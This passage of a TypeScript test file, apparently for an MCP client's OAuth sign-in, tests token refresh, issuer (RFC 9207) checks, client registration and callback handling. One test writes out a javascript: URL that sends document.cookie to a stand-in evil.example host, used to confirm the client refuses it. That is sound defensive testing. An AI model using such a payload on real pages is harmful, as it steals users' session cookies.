        callback.search = new URLSearchParams({ state: auth.searchParams.get('state')!, code: `code-for-${auth.origin}`, iss: auth.origin }).toString();
        void fetch(callback).then((r) => r.text());
      },
    });
    cleanups.push(() => credential.close());
    const challenge = `Bearer resource_metadata="${mcp}/.well-known/oauth-protected-resource/mcp"`;
    // Each 401 answers the Authorization header the request went with.
    const renew = () => credential.renew({ status: 401, wwwAuthenticate: challenge, sent: credential.authorization() }, AbortSignal.timeout(10_000));
    const token = () => credential.authorization()?.slice('Bearer '.length);

    expect(await renew()).toBe(true);
    expect(token()).toBe('at-a-1');
    const aBefore = a.received.length;
    current = b;
    expect(await renew()).toBe(true);
    expect(token()).toBe('at-b-1');
    // B registered its own client and signed in anew; A's refresh token, access token, client and code never went there.
    expect(opened).toEqual([a.origin, b.origin]);
    expect(b.received.some((r) => r.startsWith('POST /register'))).toBe(true);
    for (const secret of ['rt-a', 'at-a-1', 'client-a', encodeURIComponent(`code-for-${a.origin}`)]) expect(b.received.filter((r) => r.includes(secret)), secret).toEqual([]);
    // B's token is refused: refreshed at B with B's client, nothing sent to A.
    expect(await renew()).toBe(true);
    expect(token()).toBe('at-b-2');
    const refresh = new URLSearchParams(b.received.at(-1)!.replace(/^POST \/token {2}/, ''));
    expect([refresh.get('grant_type'), refresh.get('refresh_token'), refresh.get('client_id')]).toEqual(['refresh_token', 'rt-b', 'client-b']);
    expect(a.received.length).toBe(aBefore);
  });

  it('refuses an authorization response whose iss names another server even where the metadata does not promise iss (RFC 9207 §2.4)', async () => {
    const server = await namedAs('c');
    const o = server.origin;
    // Its metadata without authorization_response_iss_parameter_supported.
    const as = { issuer: o, authorization_endpoint: `${o}/auth`, token_endpoint: `${o}/token`, registration_endpoint: `${o}/register`, code_challenge_methods_supported: ['S256'] };
    const discovered = { as, resource: new URL(`${server.origin}/mcp`), scopesSupported: undefined };
    const deps = (iss: string | undefined): FlowDeps => ({
      http: createOAuthHttp(dispatcher(), false),
      settings: { clientId: undefined, clientSecret: undefined, clientMetadataUrl: undefined, callbackPort: undefined, loginTimeoutMs: 10_000 },
      registerSecret: () => undefined,
      showUrl: () => undefined,
      now: Date.now,
      openBrowser: (url) => {
        const auth = new URL(url);
        const callback = new URL(auth.searchParams.get('redirect_uri')!);
        callback.search = new URLSearchParams({ state: auth.searchParams.get('state')!, code: 'c', ...(iss === undefined ? {} : { iss }) }).toString();
        void fetch(callback).then((r) => r.text());
      },
    });
    const request = { discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) };
    await expect(signIn(deps('https://other-issuer.example'), request)).rejects.toMatchObject({ message: expect.stringMatching(/failed its checks: unexpected "iss"/) });
    expect((await signIn(deps(undefined), request)).tokens.accessToken).toMatch(/^at-c-/);
  });
});

describe('sign-in steps against a scripted authorization server', () => {
  /** A scripted AS: registration answers `register`, the token endpoint answers `token`. */
  async function scriptedAs(script: { register?: (res: ServerResponse) => void; token?: (res: ServerResponse) => void; authMethods?: string[] }) {
    const tokenRequests: { auth: string | undefined; body: string }[] = [];
    const origin = await serve((req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (c: Buffer) => chunks.push(c));
      req.on('end', () => {
        if (req.url === '/register') (script.register ?? ((r) => r.writeHead(201, { 'content-type': 'application/json' }).end(JSON.stringify({ client_id: 'dcr-client', client_secret: 'dcr-secret-value', client_secret_expires_at: 0 }))))(res);
        else if (req.url === '/token') {
          tokenRequests.push({ auth: req.headers.authorization, body: Buffer.concat(chunks).toString() });
          (script.token ?? ((r) => r.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ access_token: 'at-value-1234', token_type: 'bearer', expires_in: 60 }))))(res);
        } else res.writeHead(404).end();
      });
    });
    const as = {
      issuer: origin,
      authorization_endpoint: `${origin}/auth`,
      token_endpoint: `${origin}/token`,
      registration_endpoint: `${origin}/register`,
      code_challenge_methods_supported: ['S256'],
      authorization_response_iss_parameter_supported: true,
      ...(script.authMethods === undefined ? {} : { token_endpoint_auth_methods_supported: script.authMethods }),
    };
    return { as, tokenRequests, discovered: { as, resource: new URL(`${origin}/mcp`), scopesSupported: undefined } };
  }

  /** A "browser" that answers the callback with the parameters `reply` builds from the authorization URL. */
  function flowDeps(reply: (auth: URL) => Record<string, string>, settings: object = {}): FlowDeps & { secrets: string[] } {
    const secrets: string[] = [];
    return {
      secrets,
      http: createOAuthHttp(dispatcher(), false),
      settings: { clientId: undefined, clientSecret: undefined, clientMetadataUrl: undefined, callbackPort: undefined, loginTimeoutMs: 10_000, ...settings },
      registerSecret: (s) => secrets.push(s),
      showUrl: () => undefined,
      now: () => 0,
      openBrowser: (url) => {
        const auth = new URL(url);
        const callback = new URL(auth.searchParams.get('redirect_uri')!);
        for (const [k, v] of Object.entries({ state: auth.searchParams.get('state')!, ...reply(auth) })) callback.searchParams.set(k, v);
        void fetch(callback).then((r) => r.text());
      },
    };
  }

  it('exchanges the code with the verifier and resource, registers every secret, and uses client_secret_post where only that is offered', async () => {
    const { as, tokenRequests, discovered } = await scriptedAs({ authMethods: ['client_secret_post'] });
    const deps = flowDeps(() => ({ code: 'code-value-5678', iss: as.issuer }));
    const result = await signIn(deps, { discovered, scope: 'a b', storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) });
    expect(result.client).toMatchObject({ kind: 'registered', clientId: 'dcr-client', clientSecret: 'dcr-secret-value' });
    expect(result.tokens).toMatchObject({ accessToken: 'at-value-1234', expiresAt: 60_000 });
    const body = new URLSearchParams(tokenRequests[0]!.body);
    expect(body.get('resource')).toBe(`${as.issuer}/mcp`);
    expect(body.get('client_secret')).toBe('dcr-secret-value');
    expect(deps.secrets).toEqual(expect.arrayContaining(['dcr-secret-value', 'code-value-5678', 'at-value-1234', body.get('code_verifier')]));
  });

  it('neither shows nor opens a sign-in page that may not be opened, even when discovery did not check it', async () => {
    const { as, discovered } = await scriptedAs({});
    const shown: string[] = [];
    const deps = { ...flowDeps(() => ({})), showUrl: (url: string) => shown.push(url), openBrowser: (url: string) => shown.push(url) };
    const hostile = { ...discovered, as: { ...as, authorization_endpoint: 'javascript:fetch("//evil.example/"+document.cookie)' } };
    await expect(signIn(deps, { discovered: hostile, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) })).rejects.toMatchObject({
      code: 'AUTH_REQUIRED',
      failure: 'failed',
      message: expect.stringMatching(/^refused to open the sign-in page of .* in the browser: its scheme is javascript:/),
    });
    expect(shown).toEqual([]);
  });

  it('refuses an authorization response whose iss is another server (RFC 9207)', async () => {
    const { discovered } = await scriptedAs({});
    const deps = flowDeps(() => ({ code: 'c', iss: 'https://evil.example' }));
    await expect(signIn(deps, { discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) })).rejects.toMatchObject({ code: 'AUTH_REQUIRED', message: expect.stringMatching(/failed its checks/) });
  });

  it('reports an error the authorization server returned, and a refused client as such', async () => {
    const { as, discovered } = await scriptedAs({});
    await expect(signIn(flowDeps(() => ({ error: 'invalid_scope', error_description: 'no such scope', iss: as.issuer })), { discovered, scope: 'x', storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) })).rejects.toMatchObject({
      failure: 'failed',
      message: expect.stringMatching(/refused the sign-in: invalid_scope \(no such scope\)/),
    });
    const refusing = await scriptedAs({ token: (res) => res.writeHead(401, { 'content-type': 'application/json' }).end('{"error":"invalid_client"}') });
    await expect(signIn(flowDeps(() => ({ code: 'c', iss: refusing.as.issuer })), { discovered: refusing.discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) })).rejects.toMatchObject({ failure: 'client-rejected' });
  });

  it('says so when registration is refused, and when the configured callback port is taken', async () => {
    const { discovered } = await scriptedAs({ register: (res) => res.writeHead(400, { 'content-type': 'application/json' }).end('{"error":"invalid_client_metadata"}') });
    await expect(signIn(flowDeps(() => ({})), { discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) })).rejects.toMatchObject({ message: expect.stringMatching(/registering with the authorization server .* failed/) });
    const taken = Number(new URL(await serve((_req, res) => res.end())).port);
    await expect(signIn(flowDeps(() => ({}), { callbackPort: taken }), { discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) })).rejects.toMatchObject({ message: expect.stringMatching(/cannot listen for the sign-in callback/) });
    // A remembered port that is taken now is not an error: another free port is used.
    const ok = await scriptedAs({});
    const result = await signIn(flowDeps(() => ({ code: 'c', iss: ok.as.issuer })), { discovered: ok.discovered, scope: undefined, storedClient: undefined, preferredPort: taken, signal: AbortSignal.timeout(10_000) });
    expect(result.client.redirectUri).not.toContain(`:${taken}/`);
  });

  it('refresh keeps the newest refresh token and names a refused grant', async () => {
    const { discovered } = await scriptedAs({ token: (res) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ access_token: 'at-2', token_type: 'bearer', refresh_token: 'rt-2' })) });
    const deps = flowDeps(() => ({}));
    const client = { kind: 'registered' as const, clientId: 'c' };
    expect(await refreshTokens(deps, discovered, client, { accessToken: 'at-1', refreshToken: 'rt-1', obtainedAt: 0 }, AbortSignal.timeout(5000))).toMatchObject({ accessToken: 'at-2', refreshToken: 'rt-2' });
    await expect(refreshTokens(deps, discovered, client, { accessToken: 'at-1', obtainedAt: 0 }, AbortSignal.timeout(5000))).rejects.toMatchObject({ kind: 'invalid-grant' });
    const revoked = await scriptedAs({ token: (res) => res.writeHead(400, { 'content-type': 'application/json' }).end('{"error":"invalid_grant"}') });
    await expect(refreshTokens(deps, revoked.discovered, client, { accessToken: 'at-1', refreshToken: 'rt-1', obtainedAt: 0 }, AbortSignal.timeout(5000))).rejects.toMatchObject({ kind: 'invalid-grant', message: expect.stringMatching(/invalid_grant/) });
  });
});
